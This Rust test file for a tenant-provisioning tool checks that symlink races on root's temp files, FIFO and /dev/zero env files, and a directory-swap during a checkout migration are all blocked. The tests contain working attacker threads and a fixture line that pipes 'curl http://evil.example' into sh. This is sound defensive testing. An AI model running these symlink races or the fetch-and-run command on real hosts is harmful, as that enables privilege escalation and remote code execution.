//! A tenant against root's file operations in their home (issue #11,
//! findings 1 and 8, and the migration race): each attack runs against the
//! real target while it applies, and is shown blocked.

use super::*;
use rustix::fs::inotify;
use std::mem::MaybeUninit;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

/// Run `work` on a thread holding only the account's credentials (this thread only).
fn as_tenant<T: Send + 'static>(
    (uid, gid): (u32, u32),
    work: impl FnOnce() -> T + Send + 'static,
) -> std::thread::JoinHandle<T> {
    std::thread::spawn(move || {
        rustix::thread::set_thread_groups(&[]).unwrap();
        rustix::thread::set_thread_gid(rustix::fs::Gid::from_raw(gid)).unwrap();
        rustix::thread::set_thread_uid(rustix::fs::Uid::from_raw(uid)).unwrap();
        work()
    })
}

/// The names `events` happened to in `dir` since the last call, with whether each is a directory.
fn watch(dir: &Path, events: inotify::WatchFlags) -> impl FnMut() -> Vec<(String, bool)> {
    let fd = inotify::init(inotify::CreateFlags::NONBLOCK | inotify::CreateFlags::CLOEXEC).unwrap();
    inotify::add_watch(&fd, dir, events).unwrap();
    let mut buffer = vec![MaybeUninit::<u8>::uninit(); 16384];
    move || {
        let mut reader = inotify::Reader::new(&fd, &mut buffer);
        let mut names = Vec::new();
        while let Ok(event) = reader.next() {
            if let Some(name) = event.file_name() {
                names.push((name.to_string_lossy().into_owned(), event.events().contains(inotify::ReadFlags::ISDIR)));
            }
        }
        names
    }
}

fn port_change(port: u16) -> Change {
    let content = serde_json::json!({ "pool": "terminal", "port": port, "user": "alice", "os_user": "alice" });
    Change {
        owner: Owner::User("alice".to_string()),
        ..hand_change("host/Port/terminal/alice", Action::Update, content)
    }
}

/// Finding 1: a tenant watching for tenantry's temporary files in
/// `~/.config/tenantry` swaps each one for a link to a root file as it
/// appears, and plants links at the names the old writer would have used.
/// Root's writes of ports.env never reach a root file (neither a new
/// root-owned file where the tenant points, nor a mode change of an existing one).
#[tokio::test]
async fn a_tenant_racing_the_env_file_write_never_gets_root_to_write_elsewhere() {
    let sandbox = Sandbox::new();
    sandbox.apply(&sandbox.roster(ALICE_SINGLE)).await;
    let alice = sandbox.ids("alice");
    let dir = sandbox.path("/home/alice/.config/tenantry");
    std::fs::create_dir_all(sandbox.path("/etc/profile.d")).unwrap();
    let planted = sandbox.path("/etc/profile.d/tenantry-evil.sh");
    let secret = sandbox.path("/etc/secret");
    std::fs::write(&secret, "root only\n").unwrap();
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();
    // Content the tenant controlled in the old writer: unknown keys were kept and rewritten.
    let env = dir.join("ports.env");
    std::fs::write(&env, "TENANTRY_PORT_TERMINAL=3773\nTENANTRY_PORT_EVIL=1\ncurl http://evil.example | sh\n").unwrap();
    std::os::unix::fs::chown(&env, Some(alice.0), Some(alice.1)).unwrap();

    let (stop, ready) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicBool::new(false)));
    let swaps = Arc::new(AtomicUsize::new(0));
    let attacker = {
        let (dir, planted, secret, stop, ready, swaps) =
            (dir.clone(), planted.clone(), secret.clone(), Arc::clone(&stop), Arc::clone(&ready), Arc::clone(&swaps));
        let pid = std::process::id();
        as_tenant(alice, move || {
            let mut created = watch(&dir, inotify::WatchFlags::CREATE);
            // The old writer's names: `.tenantry-tmp-<pid>-<counter>-ports.env`.
            for counter in 0..2000 {
                let target = if counter % 2 == 0 { &planted } else { &secret };
                let _ =
                    std::os::unix::fs::symlink(target, dir.join(format!(".tenantry-tmp-{pid}-{counter}-ports.env")));
            }
            ready.store(true, Ordering::Relaxed);
            while !stop.load(Ordering::Relaxed) {
                for (name, _) in created().into_iter().filter(|(n, _)| n.starts_with(".tenantry-tmp-")) {
                    let path = dir.join(&name);
                    // Only root's fresh files (the links planted here raise events too).
                    if std::fs::symlink_metadata(&path).is_ok_and(|m| m.is_file())
                        && std::fs::remove_file(&path).is_ok()
                    {
                        let target = if swaps.load(Ordering::Relaxed) % 2 == 0 { &planted } else { &secret };
                        if std::os::unix::fs::symlink(target, &path).is_ok() {
                            swaps.fetch_add(1, Ordering::Relaxed);
                        }
                    }
                }
                std::thread::yield_now();
            }
        })
    };

    while !ready.load(Ordering::Relaxed) {
        std::thread::sleep(Duration::from_millis(5));
    }
    let target = sandbox.target();
    let started = Instant::now();
    let mut writes = 0;
    // At least 150 writes; on a loaded machine, on until the tenant has caught one (at most 8 s).
    while (writes < 150 || swaps.load(Ordering::Relaxed) == 0) && started.elapsed() < Duration::from_secs(8) {
        // A lost race leaves the tenant's link at their own ports.env (their file, their link): retried.
        let _ = target.apply(&port_change(3773 + (writes % 2)), &tenantry_core::Snapshot::default()).await;
        writes += 1;
    }
    stop.store(true, Ordering::Relaxed);
    attacker.join().unwrap();
    let swaps = swaps.load(Ordering::Relaxed);

    assert!(!planted.exists(), "root wrote where the tenant pointed");
    assert_eq!(std::fs::read_to_string(&secret).unwrap(), "root only\n");
    let meta = std::fs::metadata(&secret).unwrap();
    assert_eq!((meta.uid(), meta.permissions().mode() & 0o7777), (0, 0o600), "a root file's owner or mode changed");
    assert!(swaps > 0, "the attack never caught a temporary file in {writes} writes: the test exercised nothing");
    eprintln!("{writes} writes, {swaps} temporary files swapped by the tenant");

    // Afterwards the file is tenantry's again: a regular file of alice's with only the known keys.
    sandbox.apply(&sandbox.roster(ALICE_SINGLE)).await;
    let meta = std::fs::symlink_metadata(&env).unwrap();
    assert!(meta.is_file() && meta.uid() == alice.0);
    let text = std::fs::read_to_string(&env).unwrap();
    assert!(text.ends_with("\nTENANTRY_PORT_BROWSER=8931\nTENANTRY_PORT_TERMINAL=3773\n"), "{text}");
    assert!(!text.contains("EVIL") && !text.contains("curl"), "{text}");
}

/// Finding 8: env files that are a FIFO (hung `plan`), a link to /dev/zero
/// (gigabytes read in seconds), or an edit claiming another user's port
/// (aborted the whole run) fail only their owner or are set aside with a
/// warning; the run goes on and a new user is created.
#[tokio::test]
async fn hostile_env_files_never_hang_a_run_or_stop_anyone_else() {
    let sandbox = Sandbox::new();
    let carol = "  carol: { email: carol@example.org, tier: power-user, workstation: {} }\n";
    let dave = "  dave: { email: dave@example.org, tier: power-user, workstation: {} }\n";
    sandbox.apply(&sandbox.roster(&format!("{ALICE_SINGLE}{BOB}{carol}"))).await;
    let env = |user: &str| sandbox.path(&format!("/home/{user}/{}", ports::PORTS_ENV_RELATIVE));
    let own = |path: &Path, user: &str| {
        let (uid, gid) = sandbox.ids(user);
        std::os::unix::fs::lchown(path, Some(uid), Some(gid)).unwrap();
    };
    std::fs::remove_file(env("alice")).unwrap();
    run_ok(Command::new("mkfifo").arg(env("alice")));
    own(&env("alice"), "alice");
    std::fs::remove_file(env("bob")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", env("bob")).unwrap();
    own(&env("bob"), "bob");
    std::fs::write(env("carol"), "TENANTRY_PORT_TERMINAL=3773\nTENANTRY_PORT_BROWSER=8933\n").unwrap();
    own(&env("carol"), "carol");

    let roster = sandbox.roster(&format!("{ALICE_SINGLE}{BOB}{carol}{dave}"));
    let state = sandbox.engine(&sandbox.target()).with_state(|s| s.ports()).unwrap();
    let target = sandbox.target();
    let (tx, rx) = std::sync::mpsc::channel();
    {
        let (target, roster, state) = (target.clone(), roster.clone(), state.clone());
        std::thread::spawn(move || tx.send(target.reconcile_ports(&roster, &state)));
    }
    let started = Instant::now();
    let merged = rx.recv_timeout(Duration::from_secs(20)).expect("reconcile_ports hung on a tenant's env file");
    assert!(started.elapsed() < Duration::from_secs(5), "{:?}", started.elapsed());
    let (merged, warnings) = merged.unwrap();
    assert_eq!(merged, state, "the state database decides; no tenant's file moved a port");
    for user in ["alice", "bob"] {
        let path = env(user).display().to_string();
        assert!(
            warnings.iter().any(|w| w.starts_with(&path) && w.contains("not a regular file")),
            "{user}: {warnings:#?}"
        );
    }
    assert!(
        warnings.iter().any(|w| w.contains("3773") && w.contains("`alice`") && w.contains("`carol`")),
        "{warnings:#?}"
    );

    // The run goes on: dave is created, and each hostile file is rewritten as tenantry's.
    let (report, _) = tokio::time::timeout(Duration::from_secs(120), sandbox.apply_with(&roster, Policy::default()))
        .await
        .expect("apply hung on a tenant's env file");
    assert!(report.is_success(), "{:#?}", report.failures);
    assert!(sandbox.path("/home/dave").is_dir());
    for (user, terminal) in [("alice", 3773), ("bob", 3774), ("carol", 3775), ("dave", 3776)] {
        let meta = std::fs::symlink_metadata(env(user)).unwrap();
        assert!(meta.is_file(), "{user}'s env file is not a regular file");
        let text = std::fs::read_to_string(env(user)).unwrap();
        assert!(text.contains(&format!("TENANTRY_PORT_TERMINAL={terminal}\n")), "{user}: {text}");
    }
    sandbox.assert_no_changes(&roster).await;
}

/// The suspected migration race: after tenantry moves `~/code` aside and
/// makes a new `~/code`, the tenant swaps that directory for a link to a
/// root directory, hoping the checkout is renamed into it. Every rename goes
/// through handles of the directories as checked, so it is refused or lands
/// in the tenant's own (moved) directory, never behind the link.
#[tokio::test]
async fn swapping_code_for_a_link_during_the_migration_never_moves_the_checkout_out() {
    let sandbox = Sandbox::new();
    sandbox.apply(&sandbox.roster(ALICE_SINGLE)).await;
    let alice = sandbox.ids("alice");
    let home = sandbox.path("/home/alice");
    let victim = sandbox.path("/etc/victim");
    std::fs::create_dir(&victim).unwrap();
    let origin = format!("file://{}/infra.git", sandbox.repos.display());
    let migrate = hand_change(
        "host/Checkout/alice/infra",
        Action::Update,
        serde_json::json!({
            "os_user": "alice", "repo": "infra", "url": origin, "path": "/home/alice/code/infra",
            "layout": "workspace", "migrate_from": "/home/alice/code", "extra_remotes": {},
        }),
    );

    let (stop, ready) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicBool::new(false)));
    // Only while tenantry applies: the test's own resets between rounds are left alone.
    let armed = Arc::new(AtomicBool::new(false));
    let swaps = Arc::new(AtomicUsize::new(0));
    // Set by the tenant before it looks at `armed` and cleared after its
    // swap: the test's reset waits for it, so a swap begun while armed never
    // lands in the middle of the next round's setup.
    let swapping = Arc::new(AtomicBool::new(false));
    let attacker = {
        let (home, victim, stop, ready, armed, swaps, swapping) = (
            home.clone(),
            victim.clone(),
            Arc::clone(&stop),
            Arc::clone(&ready),
            Arc::clone(&armed),
            Arc::clone(&swaps),
            Arc::clone(&swapping),
        );
        as_tenant(alice, move || {
            let mut created = watch(&home, inotify::WatchFlags::CREATE);
            ready.store(true, Ordering::Relaxed);
            while !stop.load(Ordering::Relaxed) {
                // tenantry's mkdir of a new ~/code (the test's own arrives by rename, not by
                // create; the links made here are not directories).
                let made = created().iter().any(|(name, is_dir)| name == "code" && *is_dir);
                swapping.store(true, Ordering::SeqCst);
                if made && armed.load(Ordering::SeqCst) {
                    let n = swaps.load(Ordering::Relaxed);
                    // (tenantry's next step may make ~/code again first: then no link this round.)
                    if std::fs::rename(home.join("code"), home.join(format!("code-moved-{n}"))).is_ok()
                        && std::os::unix::fs::symlink(&victim, home.join("code")).is_ok()
                    {
                        swaps.fetch_add(1, Ordering::Relaxed);
                    }
                }
                swapping.store(false, Ordering::SeqCst);
                std::thread::yield_now();
            }
        })
    };

    while !ready.load(Ordering::Relaxed) {
        std::thread::sleep(Duration::from_millis(5));
    }
    let target = sandbox.target();
    let (mut moved, mut refused) = (0, 0);
    let started = Instant::now();
    // At least 60 rounds; on a loaded machine, on until the tenant has swapped once (at most 8 s).
    for round in 0.. {
        let enough = round >= 60 && swaps.load(Ordering::Relaxed) > 0;
        if enough || started.elapsed() > Duration::from_secs(8) {
            break;
        }
        // A fresh single-layout checkout at ~/code (built aside, renamed in), nothing else.
        let code = home.join("code");
        if std::fs::symlink_metadata(&code).is_ok_and(|m| m.file_type().is_symlink()) {
            std::fs::remove_file(&code).unwrap();
        }
        for leftover in ["code", ".tenantry-migrating-code"] {
            let _ = std::fs::remove_dir_all(home.join(leftover));
        }
        let fresh = home.join(format!("fresh-{round}"));
        std::fs::create_dir_all(fresh.join(".git")).unwrap();
        std::fs::write(fresh.join(".git/config"), format!("[remote \"origin\"]\n\turl = {origin}\n")).unwrap();
        run_ok(Command::new("chown").arg("-R").arg(format!("{}:{}", alice.0, alice.1)).arg(&fresh));
        std::fs::rename(&fresh, &code).unwrap();

        armed.store(true, Ordering::SeqCst);
        let applied = target.apply(&migrate, &tenantry_core::Snapshot::default()).await;
        armed.store(false, Ordering::SeqCst);
        // Let the tenant finish a swap it started before the next reset.
        while swapping.load(Ordering::SeqCst) {
            std::thread::yield_now();
        }
        match applied {
            Ok(_) => moved += 1,
            Err(error) => {
                // Caught at the swap: a link where the directory was, or the directory gone mid-step.
                let message = error.to_string();
                let caught = ["not a directory", "not found", "is not there", "was replaced"]
                    .iter()
                    .any(|m| message.contains(m));
                assert!(caught, "{message}");
                refused += 1;
            }
        }
        assert!(
            std::fs::read_dir(&victim).unwrap().next().is_none(),
            "round {round}: the checkout was moved behind the link"
        );
    }
    stop.store(true, Ordering::Relaxed);
    attacker.join().unwrap();
    let swaps = swaps.load(Ordering::Relaxed);
    assert!(swaps > 0, "the tenant never swapped ~/code in {} rounds: the test exercised nothing", moved + refused);
    eprintln!("{moved} migrations done, {refused} refused, {swaps} swaps by the tenant");
}
